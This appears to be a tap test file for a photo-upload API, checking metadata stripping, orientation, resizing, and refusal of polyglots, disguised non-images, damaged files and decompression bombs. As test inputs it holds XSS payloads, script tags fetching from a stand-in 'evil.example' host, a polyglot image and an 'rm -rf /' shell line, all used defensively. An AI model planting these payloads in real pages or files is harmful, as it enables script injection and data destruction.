import sharp from 'sharp';
import t from 'tap';
import { build } from '../../support/build.ts';
import {
  albumRoutes,
  aPhotoFile,
  aPicture,
  formOf,
  pngOf,
  segmentsOf,
  send,
  shownPhoto,
} from '../../support/photos.ts';

const api = await build(t, { prepare: albumRoutes });
const { call } = api;

/** Where and by what it was taken, as telephones write it. */
const revealing = {
  IFD0: { Make: 'Telepon', Model: 'Rahasia 9', Artist: 'Siti Rahmawati', Copyright: '0812-3456-7890' },
  IFD3: {
    GPSLatitudeRef: 'S',
    GPSLatitude: '2/1 59/1 27/1',
    GPSLongitudeRef: 'E',
    GPSLongitude: '104/1 45/1 24/1',
  },
};
/** What a JPEG needs to be one: JFIF, tables, frame, scan. */
const needed = ['e0', 'db', 'c0', 'c4', 'dd', 'da'];

t.test('a photo is kept without place, device and name, and with nothing after its end', async (t) => {
  const file = await aPicture().withExif(revealing).keepIccProfile().jpeg().toBuffer();
  t.ok((await sharp(file).metadata()).exif?.includes('Rahasia 9'), 'the file tells of it');
  const { status, body } = await send(api, file, { fileName: '../../Siti Rahmawati.jpg' });
  t.equal(status, 201);
  t.match(body, { id: /^[0-9a-f-]{36}$/, width: 400, height: 300, claimBefore: /Z$/ });
  t.strictSame(Object.keys(body).sort(), ['claimBefore', 'height', 'id', 'width']);
  for (const size of ['full', 'thumbnail'] as const) {
    const { bytes, headers } = await shownPhoto(api, body.id, { size });
    t.equal(headers['content-type'], 'image/jpeg');
    const { markers, after } = segmentsOf(bytes);
    t.strictSame(
      markers.filter((marker) => !needed.includes(marker)),
      [],
      'no segment but those of the picture',
    );
    t.equal(after, 0);
    const { exif, icc, xmp, iptc, width } = await sharp(bytes).metadata();
    t.strictSame([exif, icc, xmp, iptc], [undefined, undefined, undefined, undefined]);
    t.equal(width, size === 'full' ? 400 : 320);
  }
});

t.test('the picture is upright, whichever way the telephone was held', async (t) => {
  const file = await aPicture(400, 300).withMetadata({ orientation: 6 }).jpeg().toBuffer();
  const { body } = await send(api, file);
  t.match(body, { width: 300, height: 400 });
  const { bytes } = await shownPhoto(api, body.id);
  const colourAt = async (left: number, top: number) => {
    const pixel = await sharp(bytes).extract({ left, top, width: 1, height: 1 }).raw().toBuffer();
    return pixel[0]! > pixel[2]! ? 'red' : 'blue';
  };
  t.equal(await colourAt(150, 20), 'red', 'what was on the left is above');
  t.equal(await colourAt(150, 380), 'blue');
});

t.test('large photos are made smaller, small ones stay as they are', async (t) => {
  const { body: large } = await send(api, await aPhotoFile(5000, 2500));
  t.match(large, { width: 2048, height: 1024 });
  const { body: small } = await send(api, await aPhotoFile(40, 30));
  t.match(small, { width: 40, height: 30 });
  const thumbnail = await sharp((await shownPhoto(api, small.id, { size: 'thumbnail' })).bytes).metadata();
  t.match(thumbnail, { width: 40, height: 30 });
});

t.test(
  'PNG and WebP are taken, too: see-through is white, of an animation the first picture is kept',
  async (t) => {
    const clear = sharp({
      create: { width: 60, height: 40, channels: 4, background: { r: 0, g: 0, b: 0, alpha: 0 } },
    });
    for (const file of [await clear.clone().png().toBuffer(), await clear.clone().webp().toBuffer()]) {
      const { status, body } = await send(api, file);
      t.equal(status, 201);
      const { bytes } = await shownPhoto(api, body.id);
      const pixels = await sharp(bytes).raw().toBuffer();
      t.ok(pixels.every((value) => value > 250));
    }
    const pictures = [await aPhotoFile(50, 40), await aPicture(50, 40).greyscale().jpeg().toBuffer()];
    const frames = await sharp(pictures, { join: { animated: true } })
      .webp()
      .toBuffer();
    t.equal((await sharp(frames).metadata()).pages, 2);
    const { body } = await send(api, frames);
    t.match(body, { width: 50, height: 40 });
  },
);

t.test('a file that is two things at once comes out as one', async (t) => {
  const script = '<script>fetch("//evil.example")</script>';
  const file = await aPhotoFile();
  const comment = Buffer.from(`\xff\xfe\x00${String.fromCharCode(script.length + 2)}${script}`, 'latin1');
  const archive = Buffer.from('PK\x03\x04 evil.js PK\x05\x06', 'latin1');
  const polyglot = Buffer.concat([
    file.subarray(0, 2),
    comment,
    file.subarray(2),
    Buffer.from(`<!doctype html><body>${script}`),
    archive,
  ]);
  const { status, body } = await send(api, polyglot);
  t.equal(status, 201);
  for (const size of ['full', 'thumbnail'] as const) {
    const { bytes } = await shownPhoto(api, body.id, { size });
    for (const trace of ['script', 'evil', 'PK\x03\x04', 'html']) t.notOk(bytes.includes(trace), trace);
    t.equal(segmentsOf(bytes).after, 0);
  }
});

t.test('what is no photo is told what it is, whatever it is called', async (t) => {
  const svg = '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>';
  const heic = Buffer.concat([Buffer.from([0, 0, 0, 24]), Buffer.from('ftypheic\0\0\0\0mif1heic')]);
  const files: [string, string | Buffer][] = [
    ['image/svg+xml', svg],
    ['image/svg+xml', `<?xml version="1.0"?>\n<!-- ${'x'.repeat(200)} -->\n${svg}`],
    ['text/html', '<!DOCTYPE html><html><body onload="alert(1)">'],
    ['text/html', '<script src="//evil.example/x.js"></script>'],
    ['text/plain', '#!/bin/sh\nrm -rf /\n'],
    ['application/pdf', '%PDF-1.7\n%âãÏÓ\n1 0 obj\n'],
    ['application/zip', Buffer.from('PK\x05\x06'.padEnd(22, '\0'), 'latin1')],
    ['application/gzip', Buffer.from([0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3])],
    ['image/gif', Buffer.from('GIF89a\x01\0\x01\0\0\0\0;', 'latin1')],
    ['image/heic', heic],
    ['application/octet-stream', Buffer.from([0, 1, 2, 3, 250, 251])],
  ];
  for (const [found, content] of files) {
    const { status, body } = await send(api, content, { fileName: 'photo.jpg', type: 'image/jpeg' });
    t.equal(status, 415, found);
    t.equal(body.code, 'image-type');
    t.match(body.detail, `the file is ${found};`);
  }
});

t.test('damaged and empty files are refused as such', async (t) => {
  const file = await aPhotoFile(1200, 900);
  const png = await aPicture(1200, 900).png().toBuffer();
  const contents = [
    Buffer.alloc(0),
    file.subarray(0, Math.floor(file.length / 2)),
    png.subarray(0, Math.floor(png.length / 2)),
    file.subarray(0, 20),
    Buffer.concat([file.subarray(0, 3), Buffer.from('<svg onload="alert(1)">')]),
    Buffer.from('\x89PNG\r\n\x1a\n<svg>', 'latin1'),
    Buffer.from('RIFF\x10\0\0\0WEBPVP8 <html>', 'latin1'),
  ];
  for (const [at, content] of contents.entries())
    t.match(await send(api, content), { status: 422, body: { code: 'image-unreadable' } }, `number ${at}`);
});

t.test(
  'bombs do not go off: pixels are counted before they are unpacked, bytes while they come',
  async (t) => {
    const before = process.memoryUsage().rss;
    for (const [width, height] of [
      [60_000, 60_000],
      [50_000_001, 1],
      [7_072, 7_071],
    ] as const) {
      const { status, body } = await send(api, pngOf(width, height));
      t.equal(status, 422, `${width} × ${height}`);
      t.equal(body.code, 'image-too-many-pixels');
      t.match(body.detail, String(width));
    }
    t.match(await send(api, Buffer.concat([await aPhotoFile(), Buffer.alloc(11_000_000)])), {
      status: 413,
      body: { code: 'image-too-large' },
    });
    t.match(await send(api, Buffer.concat([await aPhotoFile(), Buffer.alloc(10_485_760)])), {
      status: 413,
      body: { code: 'image-too-large' },
    });
    t.ok(process.memoryUsage().rss - before < 300_000_000, 'nothing was unpacked');
  },
);

t.test('a form has one photo, last, and nothing else but a proof', async (t) => {
  const content = await aPhotoFile();
  const file = { name: 'file', fileName: 'a.jpg', content };
  const refused: [string, Parameters<typeof formOf>[0]][] = [
    ['file-missing', []],
    ['file-missing', [{ name: 'file', content: 'text' }]],
    ['file-missing', [{ name: 'photo', fileName: 'a.jpg', content }]],
    ['part-after-file', [file, file]],
    ['part-after-file', [file, { name: 'proof', content: 'YQ==' }]],
    ['invalid-input', [{ name: 'prof', content: 'YQ==' }, file]],
    ['invalid-input', [{ name: 'proof', content: 'YQ==' }, { name: 'proof', content: 'YQ==' }, file]],
    ['proof-malformed', [{ name: 'proof', content: 'YQ==' }, file]],
  ];
  for (const [code, parts] of refused) {
    const { status, body } = await call('POST', '/v1/photos', { key: null, ...formOf(parts) });
    t.equal(body.code, code);
    t.equal(status, code === 'proof-malformed' ? 422 : 400, code);
  }
  t.match(await call('POST', '/v1/photos', { key: null, body: { file: 'x' } }), { status: 415 });
  t.match(
    await call('POST', '/v1/photos', { key: null, body: content, headers: { 'content-type': 'image/jpeg' } }),
    { status: 415, body: { code: 'unsupported-media-type' } },
  );
  t.match(
    await call('POST', '/v1/photos', {
      key: null,
      body: content,
      headers: { 'content-type': 'multipart/form-data' },
    }),
    { status: 400, body: { code: 'boundary-missing' } },
  );
});

t.test('problems are told in Indonesian, too', async (t) => {
  const { body } = await call('POST', '/v1/photos', {
    key: null,
    ...formOf([{ name: 'file', fileName: 'a.jpg', content: '%PDF-1.7' }]),
    headers: { ...formOf([]).headers, 'accept-language': 'id' },
  });
  t.match(body.detail, 'Menurut isinya berkas ini application/pdf');
});
